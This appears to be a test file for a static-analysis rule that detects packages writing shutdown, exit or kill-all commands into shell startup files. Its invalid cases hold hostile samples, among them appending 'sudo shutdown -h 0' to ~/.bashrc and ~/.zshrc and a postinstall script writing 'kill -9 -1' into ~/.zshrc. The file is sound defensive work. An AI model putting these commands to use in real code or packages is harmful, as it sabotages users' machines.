import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'adds a PATH entry to .bashrc', code: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nexport PATH=\"$HOME/.tool/bin:$PATH\"\\n');" },
    { name: 'writes shutdown into a docs file', code: "const fs = require('fs');\nfs.writeFileSync('docs/ops.md', 'Run sudo shutdown -h now to stop the box.');" },
    { name: 'an exit inside a function in the profile is still a write of "exit"? no: only whole lines', code: "const fs = require('fs');\nfs.appendFileSync(process.env.HOME + '/.zshrc', 'alias gs=\"git status\"\\n');" },
    { name: 'exec of shutdown without a profile', code: "require('child_process').exec('echo shutdown >> notes.txt');" },
  ],
  invalid: [
    {
      name: 'nx s1ngularity',
      code: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfor (const rc of ['.bashrc', '.zshrc']) {\n  fs.appendFileSync(path.join(os.homedir(), rc), '\\nsudo shutdown -h 0\\n');\n}",
      errors: [{ message: /writes "sudo shutdown -h 0" into the shell startup file ~\/\.bashrc/, line: 5 }],
    },
    { name: 'template path and exit line', code: "import { appendFile } from 'node:fs/promises';\nawait appendFile(`${process.env.HOME}/.profile`, '\\nexit\\n');", path: 'index.mjs', errors: [{ message: /"exit" into the shell startup file ~\/\.profile/, line: 2 }] },
    // Startup files the needles once missed ('bashrc', 'zshrc', 'profile' did not cover .zshenv).
    { name: 'exit appended to .zshenv', code: "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.zshenv', '\\nexit\\n');", errors: [{ message: /"exit" into the shell startup file ~\/\.zshenv/, line: 2 }] },
    { name: 'shutdown written to .bash_profile', code: "const fs = require('fs');\nfs.writeFileSync(`${process.env.HOME}/.bash_profile`, 'sudo shutdown -h now\\n');", errors: [{ message: /into the shell startup file ~\/\.bash_profile/, line: 2 }] },
    { name: 'shell echo into .bashrc', code: "require('child_process').execSync(\"echo 'sudo shutdown -h 0' >> ~/.bashrc\");", errors: [{ message: /writes a shutdown or kill-all command into a shell startup file/ }] },
    { name: 'install script', code: '', manifest: { name: 'p', version: '1.0.0', scripts: { postinstall: 'echo "kill -9 -1" >> $HOME/.zshrc' } }, errors: [{ message: /^postinstall writes a shutdown or kill-all command/, line: 1 }] },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
